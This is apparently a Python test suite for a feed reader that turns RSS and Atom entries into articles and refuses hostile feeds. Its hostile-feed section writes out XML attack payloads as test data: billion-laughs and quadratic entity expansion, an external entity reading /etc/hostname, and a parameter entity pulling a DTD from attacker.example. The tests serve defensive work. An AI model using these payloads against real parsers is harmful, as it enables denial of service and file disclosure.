"""RSS and Atom feeds as articles, and hostile feeds (entity expansion, binary, huge).

Every feed here is written by hand.
"""

from __future__ import annotations

import io
import time
import warnings
from collections.abc import Iterable, Iterator
from html import escape
from pathlib import Path

import pytest

from reader.corpus import feeds
from reader.corpus.articles import build_article
from reader.corpus.feeds import read_feed
from reader.corpus.formats import RecordError
from reader.corpus.model import SourceText

PATH = "/corpus/feeds/gazette.rss"

PARAGRAPHS = [
    f"Paragraph {n}: the harbour authority on Tuesday approved a plan to dredge the old "
    "channel, allowing larger ferries to dock at the village pier for the first time in "
    "forty years, officials said."
    for n in range(6)
]
FULL_HTML = (
    "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    + "<p>The post <a href='https://gazette.example/dredging'>Harbour authority approves "
    "dredging</a> appeared first on <a href='https://gazette.example'>The Gazette</a>.</p>"
    "<div class='share'><a href='https://facebook.example'>Share on Facebook</a></div>"
)

POOL_HTML = "<p>The pool reopens on <b>Monday</b>.<br><br>Tickets cost £4.</p>"

RSS = f"""\
<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>The Harbour Gazette</title>
  <link>https://gazette.example/</link>
  <description>News from the harbour</description>
  <item>
    <title>Harbour authority approves dredging</title>
    <link>https://gazette.example/dredging</link>
    <guid>https://gazette.example/?p=1</guid>
    <pubDate>Tue, 05 Mar 2024 21:30:00 -0500</pubDate>
    <author>jane@gazette.example (Jane Doe)</author>
    <category>Harbour</category>
    <description>Ferries will dock at the pier after forty years.</description>
    <content:encoded><![CDATA[{FULL_HTML}]]></content:encoded>
  </item>
  <item>
    <title>Pool reopens on Monday</title>
    <link>https://gazette.example/pool</link>
    <pubDate>Mon, 04 Mar 2024 08:00:00 +0000</pubDate>
    <description>{escape(POOL_HTML)}</description>
  </item>
  <item>
    <title>Live: council budget vote</title>
    <link>https://gazette.example/live</link>
  </item>
  <item>
    <description></description>
  </item>
  <item>
    <title>Rail strike called off</title>
    <link>https://news.aggregator.example/r/123</link>
    <source url="https://wire.example/rss">Wire Service</source>
    <description>Unions called off Friday's strike.</description>
  </item>
</channel>
</rss>
"""

ATOM = f"""\
<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Harbour Gazette (Atom)</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2024-03-05T23:30:00-05:00</updated>
  <entry>
    <title type="html">Harbour authority &lt;em&gt;approves&lt;/em&gt; dredging</title>
    <link href="https://gazette.example/dredging"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2024-03-05T23:30:00-05:00</updated>
    <author><name>Jane Doe</name><email>jane@gazette.example</email></author>
    <author><name>Sam Roe</name></author>
    <summary>Larger ferries will be able to dock.</summary>
    <content type="html">{escape(FULL_HTML)}</content>
  </entry>
  <entry>
    <title>Plain text entry</title>
    <link href="https://gazette.example/plain"/>
    <id>urn:2</id>
    <updated>2024-03-01</updated>
    <summary type="text">First paragraph of the plain summary.

Second paragraph.</summary>
  </entry>
</feed>
"""


def read_all(items: Iterable[SourceText | RecordError]) -> tuple[list[SourceText], list[str]]:
    sources: list[SourceText] = []
    problems: list[str] = []
    for item in items:
        if isinstance(item, RecordError):
            problems.append(str(item))
        else:
            sources.append(item)
    return sources, problems


def refusal(items: Iterator[SourceText | RecordError]) -> str:
    with pytest.raises(RecordError) as caught:
        list(items)
    return str(caught.value)


def rss_items(items: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>\n{prolog}<rss version="2.0"><channel><title>T</title>'
        f"{items}</channel></rss>"
    ).encode()


# --- RSS -------------------------------------------------------------------------------------


def test_rss_entries_become_articles() -> None:
    sources, problems = read_all(read_feed("feeds/gazette.rss", PATH, RSS.encode()))
    assert [s.id for s in sources] == [
        "feeds/gazette.rss#0",
        "feeds/gazette.rss#1",
        "feeds/gazette.rss#2",
        "feeds/gazette.rss#4",
    ]
    assert problems == ["entry 3: no text, and no title and link to stand for it"]
    assert {s.format for s in sources} == {"rss"}
    assert {s.path for s in sources} == {PATH}
    first = sources[0]
    assert first.hints == {
        "title": "Harbour authority approves dredging",
        "url": "https://gazette.example/dredging",
        "byline": "Jane Doe",
        "source": "The Harbour Gazette",
        "date": "2024-03-05",  # as written, not the next day in UTC
        "datetime": "2024-03-05T21:30-05:00",
        "subtitle": "Ferries will dock at the pier after forty years.",
    }


def test_full_content_goes_through_trafilatura() -> None:
    first = read_all(read_feed("f.rss", PATH, RSS.encode()))[0][0]
    assert first.scraped is False
    assert first.text.split("\n\n")[:6] == PARAGRAPHS
    assert "Share on Facebook" not in first.text


def test_short_summary_is_stripped_to_its_paragraphs() -> None:
    second = read_all(read_feed("f.rss", PATH, RSS.encode()))[0][1]
    assert second.text == "The pool reopens on Monday.\n\nTickets cost £4."
    assert second.scraped is True
    assert "subtitle" not in second.hints
    assert second.hints["date"] == "2024-03-04"


def test_entry_with_title_and_link_only_is_a_title_only_article() -> None:
    third = read_all(read_feed("f.rss", PATH, RSS.encode()))[0][2]
    assert third.text == "Live: council budget vote"
    assert third.hints["title_only"] is True
    assert third.hints["url"] == "https://gazette.example/live"


def test_an_aggregators_entry_names_its_own_source() -> None:
    last = read_all(read_feed("f.rss", PATH, RSS.encode()))[0][-1]
    assert last.hints["source"] == "Wire Service"


def test_raw_is_readable_lines_and_the_content() -> None:
    first = read_all(read_feed("f.rss", PATH, RSS.encode()))[0][0]
    head, _, content = first.raw.partition("\n\n")
    assert head.splitlines() == [
        "title: Harbour authority approves dredging",
        "link: https://gazette.example/dredging",
        "published: Tue, 05 Mar 2024 21:30:00 -0500",
        "author: Jane Doe",
        "id: https://gazette.example/?p=1",
        "tags: Harbour",
        "summary: Ferries will dock at the pier after forty years.",
    ]
    assert content.startswith("<p>Paragraph 0:")


def test_feed_entry_cleans_into_an_article() -> None:
    article = build_article(read_all(read_feed("f.rss", PATH, RSS.encode()))[0][0])
    assert article.title == "Harbour authority approves dredging"
    assert article.date == "2024-03-05"
    assert article.byline == "Jane Doe"
    assert article.url == "https://gazette.example/dredging"
    assert article.body.startswith("Paragraph 0: the harbour authority")


# --- Atom ------------------------------------------------------------------------------------


def test_atom_entries_become_articles() -> None:
    sources, problems = read_all(read_feed("feeds/g.atom", PATH, ATOM.encode()))
    assert problems == []
    assert [s.format for s in sources] == ["atom", "atom"]
    first, second = sources
    assert first.hints["title"] == "Harbour authority approves dredging"
    assert first.hints["byline"] == "Jane Doe, Sam Roe"
    assert first.hints["source"] == "Harbour Gazette (Atom)"
    assert first.hints["date"] == "2024-03-05"
    assert first.hints["datetime"] == "2024-03-05T23:30-05:00"
    assert first.hints["subtitle"] == "Larger ferries will be able to dock."
    assert first.text.startswith(PARAGRAPHS[0])  # the content, not the summary
    assert second.text == "First paragraph of the plain summary.\n\nSecond paragraph."
    assert second.hints["date"] == "2024-03-01"
    assert "datetime" not in second.hints


def test_utf16_feed_is_read() -> None:
    data = ATOM.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")
    sources, problems = read_all(read_feed("g.atom", PATH, data))
    assert problems == []
    assert len(sources) == 2


def test_malformed_feed_with_entries_is_still_read() -> None:
    data = rss_items(
        "<item><title>Broken &nbsp; markup</title><link>https://e.example/1</link>"
        "<description>The ferry runs <b>again.</description></item>"
    )
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert problems == []
    assert sources[0].text == "The ferry runs again."


# --- hostile feeds ---------------------------------------------------------------------------

BILLION_LAUGHS = rss_items(
    "<item><title>lol</title><description>&lol9;</description></item>",
    prolog='<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">\n'
        for n in range(1, 10)
    )
    + "]>\n",
)
# One entity, referred to many times: feedparser itself expands this kind ("quadratic blowup").
BLOWUP = rss_items(
    "<item><title>x</title><description>" + "&a;" * 2000 + "</description></item>",
    prolog='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 200_000 + '">\n]>\n',
)
EXTERNAL = rss_items(
    "<item><title>x</title><description>hello &xxe;</description></item>",
    prolog='<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file:///etc/hostname">\n]>\n',
)
PARAMETER = rss_items(
    "<item><title>x</title><description>hello</description></item>",
    prolog='<!DOCTYPE rss [\n<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;\n]>\n',
)
# Expat gives up on the stray text before it meets the declaration; feedparser's loose
# parser would still honour the declaration.
MALFORMED_PROLOG = (
    b'<?xml version="1.0"?>\nstray text\n<!DOCTYPE rss [\n<!ENTITY a "'
    + b"A" * 200_000
    + b'">\n]>\n<rss version="2.0"><channel><title>T</title><item><title>x</title>'
    b"<description>" + b"&a;" * 2000 + b"</description></item></channel></rss>"
)

RSS091_DOCTYPE = (
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
    '  "http://my.netscape.com/publish/formats/rss-0.91.dtd"'
)
RSS091_WITH_ENTITY = rss_items(
    "<item><title>x</title><description>" + "&a;" * 2000 + "</description></item>",
    prolog=RSS091_DOCTYPE + ' [\n<!ENTITY a "' + "A" * 200_000 + '">\n]>\n',
)

# Expat does not know Shift_JIS: the prolog, read as feedparser reads it, is what finds this.
SHIFT_JIS = (
    '<?xml version="1.0" encoding="shift_jis"?>\n<!DOCTYPE rss [\n<!ENTITY a "東京">\n]>\n'
    '<rss version="2.0"><channel><title>T</title><item><title>x</title>'
    "<description>&a;&a;</description></item></channel></rss>"
).encode("shift_jis")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (BILLION_LAUGHS, 'refused: the feed declares the XML entity "lol"'),
        (BLOWUP, 'refused: the feed declares the XML entity "a"'),
        (EXTERNAL, 'refused: the feed declares the XML entity "xxe"'),
        (PARAMETER, 'refused: the feed declares the XML entity "ext"'),
        (MALFORMED_PROLOG, "refused: the feed declares XML entities,"),
        (BLOWUP.decode().encode("utf-16"), 'refused: the feed declares the XML entity "a"'),
        (RSS091_WITH_ENTITY, 'refused: the feed declares the XML entity "a"'),
        (SHIFT_JIS, "refused: the feed declares XML entities,"),
    ],
    ids=[
        "billion-laughs",
        "quadratic-blowup",
        "external",
        "parameter",
        "malformed",
        "utf-16",
        "rss091-doctype",
        "encoding-expat-lacks",
    ],
)
def test_entity_declarations_are_refused(data: bytes, expected: str) -> None:
    started = time.monotonic()
    problem = refusal(read_feed("f.rss", PATH, data))
    assert problem.startswith(expected)
    assert "billion laughs" in problem
    assert time.monotonic() - started < 2


def test_feedparser_alone_expands_declared_entities() -> None:
    """Why the check above exists: feedparser keeps a feed's simple entity declarations."""
    data = rss_items(
        "<item><title>x</title><description>&a;&a;&a;</description></item>",
        prolog='<!DOCTYPE rss [\n<!ENTITY a "AAAA">\n]>\n',
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import feedparser

        parsed = feedparser.parse(io.BytesIO(data))
    assert parsed.entries[0].summary == "A" * 12


def test_feed_in_an_encoding_expat_lacks_is_read() -> None:
    data = (
        '<?xml version="1.0" encoding="shift_jis"?>\n<rss version="2.0"><channel>'
        "<title>港新聞</title><item><title>フェリー</title><link>https://e.example/1</link>"
        "<description>港で新しいフェリーが運航を始めた。</description></item></channel></rss>"
    ).encode("shift_jis")
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert problems == []
    assert sources[0].text == "港で新しいフェリーが運航を始めた。"
    assert sources[0].hints["source"] == "港新聞"


def test_rss_091_doctype_is_not_an_entity() -> None:
    data = rss_items(
        "<item><title>Old feed</title><link>https://e.example/1</link>"
        "<description>Still news.</description></item>",
        prolog=RSS091_DOCTYPE + ">\n",
    )
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert problems == []
    assert sources[0].text == "Still news."


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "empty file"),
        (b"  \n\t", "empty file"),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20,
            "binary file, not a feed",
        ),
        (b"\x1f\x8b\x08\x00" + bytes(range(256)) * 20, "binary file, not a feed"),
        (b"Just some notes.\nNot XML.\n", "not a feed: not XML"),
        (b"<rss><channel><title>T</title>", "not a feed: the XML ends before its first element"),
        (b"<rss><channel><title>T</title></rss>", "not a feed: invalid XML (mismatched tag)"),
        (b"<html><body><p>A web page.</p></body></html>", "not a feed: no RSS channel or"),
        (
            b'<?xml version="1.0"?><urlset><url><loc>https://e.example/</loc></url></urlset>',
            "not a feed: no RSS channel or Atom feed element",
        ),
        (
            b'<rss version="2.0"><channel><title>T</title></channel></rss>',
            "the feed has no entries",
        ),
    ],
    ids=[
        "empty",
        "blank",
        "png",
        "gzip",
        "text",
        "truncated",
        "mismatched",
        "html",
        "sitemap",
        "no-entries",
    ],
)
def test_feed_refusals(data: bytes, expected: str) -> None:
    assert refusal(read_feed("f.xml", PATH, data)).startswith(expected)


def test_contents_naming_a_file_are_not_opened(tmp_path: Path) -> None:
    """feedparser opens a path or URL given as the document itself; the reader never lets it."""
    secret = tmp_path / "secret.xml"
    secret.write_bytes(rss_items("<item><title>Secret</title><description>x</description></item>"))
    problem = refusal(read_feed("f.rss", PATH, str(secret).encode()))
    assert problem.startswith("not a feed")


def test_huge_entry_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feeds, "MAX_ENTRY_CHARS", 100_000)
    data = rss_items(
        "<item><title>Big</title><description>" + "word " * 30_000 + "</description></item>"
        "<item><title>Small</title><description>The ferry runs.</description></item>"
    )
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert [s.hints["title"] for s in sources] == ["Small"]
    assert problems == [
        "entry 0: too large for an article (0.1 MB of content; limit 0 MB); skipped"
    ]


def test_large_entry_is_read_in_bounded_time() -> None:
    paragraph = "<p>" + "The ferry runs again after the storm. " * 20 + "</p>\n"
    data = rss_items(
        "<item><title>Big</title><description><![CDATA["
        + paragraph * 6000  # about 5 MB: stripped, not given to trafilatura
        + "]]></description></item>"
    )
    started = time.monotonic()
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert problems == []
    assert len(sources[0].text.split("\n\n")) == 6000
    assert time.monotonic() - started < 20


def test_one_failing_entry_does_not_lose_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    real = feeds._entry_source

    def flaky(entry_id: str, path: str, entry: feeds._Entry, feed: feeds._Feed) -> SourceText:
        if entry.title == "Bad":
            raise KeyError("boom")
        return real(entry_id, path, entry, feed)

    monkeypatch.setattr(feeds, "_entry_source", flaky)
    data = rss_items(
        "<item><title>Bad</title><description>x</description></item>"
        "<item><title>Good</title><description>The ferry runs.</description></item>"
    )
    sources, problems = read_all(read_feed("f.rss", PATH, data))
    assert [s.id for s in sources] == ["f.rss#1"]
    assert problems == ["entry 0: could not be read (KeyError: 'boom')"]
